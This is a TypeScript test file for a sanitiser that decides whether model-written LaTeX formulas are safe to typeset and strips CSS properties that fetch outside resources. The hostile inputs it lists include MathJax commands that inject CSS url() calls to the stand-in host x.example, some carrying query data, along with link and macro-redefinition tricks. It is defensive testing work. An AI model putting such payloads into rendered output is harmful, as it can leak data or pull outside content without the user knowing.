import { describe, expect, it } from 'vitest';
import { isSafeToTypeset, stripStyles } from '../src/safeFormulas';

const DRAWN = [
  '$\\hat{\\beta} = (X^\\top X)^{-1} X^\\top y$',
  '\\begin{align*} a &= b \\\\ x &\\sim \\mathcal{N}(\\mu, \\sigma^2) \\end{align*}',
  '$\\begin{pmatrix}1\\\\q\\end{pmatrix}$',
  '$\\left\\{ \\operatorname{Var}(x) \\mid \\mathbb{E}[x] \\leq 5\\% \\right\\}$'
];

describe('formulas of a model', () => {
  it('are typeset where they are formulas', () => {
    for (const text of ['$\\frac{1}{2}$', '\\[\\sum_{i=1}^n \\color{red}{x_i} \\urlcorner\\]', 'costs $5', '\\text{class}', ...DRAWN]) {
      expect(isSafeToTypeset(text), text).toBe(true);
    }
  });

  it('stay text where a command of theirs becomes a style, an attribute or a link', () => {
    for (const text of [
      '$\\style{cursor:url(https://x.example/?d=1),auto}{x}$',
      '$\\bbox[cursor:url(//x.example)]{x}$',
      '$\\fcolorbox{red;cursor:url(//x.example)}{white}{x}$',
      '$\\mmlToken{mi}[style="cursor:url(//x.example)"]{x}$',
      '$\\let\\q\\style \\q{a}{x}$',
      '$\\href {https://x.example}{x}$',
      '$\\require{html}$',
      '$\\unicode[x;background-image:url(https://x.example/?d=1)]{x41}$',
      '$\\def\\q#1{#1}\\q{x}$',
      '$\\newcommand{\\alpha}{x}$',
      '$\\enclose{circle}[mathbackground="url(//x.example)"]{x}$',
      '$\\htmlData{a=b}{x}$',
      '$\\rule{99em}{99em}$',
      '$\\Alpha\\toString\\constructor$',
      '\\begin{prooftree}x\\end{prooftree}',
      '$\\begin x$',
      '$\\begin{{matrix}}x$',
      '$\\\\\\unicode[x]{x41}$'
    ]) {
      expect(isSafeToTypeset(text), text).toBe(false);
    }
  });
});

/** An element's style, as far as it is looked at. */
class Style extends Map<string, string> {
  getPropertyValue = (name: string) => this.get(name) ?? '';
  removeProperty = (name: string) => void this.delete(name);
  override [Symbol.iterator] = () => this.keys() as never;
}

it('a style that fetches or covers is taken away after typesetting, and others stay', () => {
  const style = new Style([
    ['background-image', 'url("https://x.example/")'],
    ['cursor', 'image-set("//x.example/c" 1x)'],
    ['list-style', 'var(--b)'],
    ['font-family', 'x\\75rl(//x.example)'],
    ['position', 'fixed'],
    ['color', 'rgb(1, 2, 3)'],
    ['transform', 'translateX(2em) scale(2)'],
    ['font-family-x', 'MJXTEX, "a b"'],
    ['vertical-align', '-0.5em']
  ]);
  stripStyles({ querySelectorAll: () => [{ style }] } as unknown as Element);
  expect([...style.keys()]).toEqual(['color', 'transform', 'font-family-x', 'vertical-align']);
});
